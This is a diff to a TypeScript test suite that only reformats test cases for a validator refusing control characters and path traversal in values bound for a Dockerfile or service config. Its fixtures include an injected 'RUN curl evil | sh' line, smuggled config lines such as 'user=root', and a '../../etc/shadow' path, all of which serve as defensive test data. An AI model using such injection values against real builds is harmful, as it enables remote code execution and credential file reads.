@@ -41,14 +41,34 @@ describe('finding 6: control characters in strings that reach a Dockerfile, supe
     ['an image build arg value', (i) => (i.args = { MODE: 'x\nRUN curl evil | sh' }), 'args.MODE: contains a line break'],
     ['an env value', (i) => (i.env = { HOME_DIR: '/root\r' }), 'env.HOME_DIR: contains a carriage return (\\r)'],
     ['a variant build arg', (i) => (i.variants[0].args = { REF: 'v1\u0000' }), 'variants.0.args.REF: contains a NUL byte (\\0)'],
-    ['a service environment value', (i) => (i.services[0].environment = { TOKEN: 'a\nautostart=false' }), 'services.0.environment.TOKEN: contains a line break'],
+    [
+      'a service environment value',
+      (i) => (i.services[0].environment = { TOKEN: 'a\nautostart=false' }),
+      'services.0.environment.TOKEN: contains a line break',
+    ],
     // workdir's own pattern (literal path characters and ${NAME} only) refuses it before the control-character rule.
-    ['a workdir', (i) => (i.services[0].workdir = '/workspace\nuser=root'), 'services.0.workdir: must be an absolute path or start with a variable'],
-    ['a portal label', (i) => (i.services[0].portal[0].label = 'My App\u007f'), 'services.0.portal.0.label: contains the control character U+007F'],
+    [
+      'a workdir',
+      (i) => (i.services[0].workdir = '/workspace\nuser=root'),
+      'services.0.workdir: must be an absolute path or start with a variable',
+    ],
+    [
+      'a portal label',
+      (i) => (i.services[0].portal[0].label = 'My App\u007f'),
+      'services.0.portal.0.label: contains the control character U+007F',
+    ],
     ['a boot env value', (i) => (i.bootEnv = { MODEL: 'a\u2028b' }), 'bootEnv.MODEL: contains the control character U+2028'],
     ['a tab in a one-line value', (i) => (i.description = 'My\tapp'), 'description: contains a tab (\\t)'],
-    ['a NUL in a step comment', (i) => (i.steps = [{ name: 's', comment: 'why\u0000', run: 'true' }]), 'steps.0.comment: contains a NUL byte (\\0) at character 4; a script may hold line breaks and tabs'],
-    ['a control character in a service command', (i) => (i.services[0].command = 'serve\u001b[0m'), 'services.0.command: contains the control character U+001B'],
+    [
+      'a NUL in a step comment',
+      (i) => (i.steps = [{ name: 's', comment: 'why\u0000', run: 'true' }]),
+      'steps.0.comment: contains a NUL byte (\\0) at character 4; a script may hold line breaks and tabs',
+    ],
+    [
+      'a control character in a service command',
+      (i) => (i.services[0].command = 'serve\u001b[0m'),
+      'services.0.command: contains the control character U+001B',
+    ],
   ])('refuses %s', (_what, edit, expected) => {
     const errors = errorsAfter(edit);
     expect(errors).toHaveLength(1);
@@ -76,11 +96,31 @@ describe('finding 6: control characters in strings that reach a Dockerfile, supe
 
 describe('finding 6: paths that reach a copy stay inside ROOT/ and the workspace', () => {
   it.each<[string, (input: Input) => void, string]>([
-    ['.. in steps[].needs', (i) => (i.steps = [{ name: 's', run: 'true', needs: ['../../etc/shadow'] }]), "steps.0.needs.0: must stay inside ROOT/: remove the '.' and '..' segments"],
-    ['.. inside steps[].needs', (i) => (i.steps = [{ name: 's', run: 'true', needs: ['opt/../../x'] }]), 'steps.0.needs.0: must stay inside ROOT/'],
-    ['a space in steps[].needs (COPY would read two paths)', (i) => (i.steps = [{ name: 's', run: 'true', needs: ['opt/a b'] }]), `steps.0.needs.0: contains " "`],
-    ['a $ in steps[].needs (COPY expands it)', (i) => (i.steps = [{ name: 's', run: 'true', needs: ['opt/$HOME'] }]), 'steps.0.needs.0: contains "$"'],
-    ['.. in artifacts[].from', (i) => (i.artifacts = [{ from: '../outside', to: 'opt/x' }]), 'artifacts.0.from: must stay inside the workspace root'],
+    [
+      '.. in steps[].needs',
+      (i) => (i.steps = [{ name: 's', run: 'true', needs: ['../../etc/shadow'] }]),
+      "steps.0.needs.0: must stay inside ROOT/: remove the '.' and '..' segments",
+    ],
+    [
+      '.. inside steps[].needs',
+      (i) => (i.steps = [{ name: 's', run: 'true', needs: ['opt/../../x'] }]),
+      'steps.0.needs.0: must stay inside ROOT/',
+    ],
+    [
+      'a space in steps[].needs (COPY would read two paths)',
+      (i) => (i.steps = [{ name: 's', run: 'true', needs: ['opt/a b'] }]),
+      `steps.0.needs.0: contains " "`,
+    ],
+    [
+      'a $ in steps[].needs (COPY expands it)',
+      (i) => (i.steps = [{ name: 's', run: 'true', needs: ['opt/$HOME'] }]),
+      'steps.0.needs.0: contains "$"',
+    ],
+    [
+      '.. in artifacts[].from',
+      (i) => (i.artifacts = [{ from: '../outside', to: 'opt/x' }]),
+      'artifacts.0.from: must stay inside the workspace root',
+    ],
     ['.. in artifacts[].to', (i) => (i.artifacts = [{ from: 'dist/x', to: 'opt/../..' }]), 'artifacts.0.to: must stay inside ROOT/'],
     ['an absolute artifacts[].to', (i) => (i.artifacts = [{ from: 'dist/x', to: '/etc' }]), 'artifacts.0.to: must be relative to ROOT/'],
   ])('refuses %s', (_what, edit, expected) => {
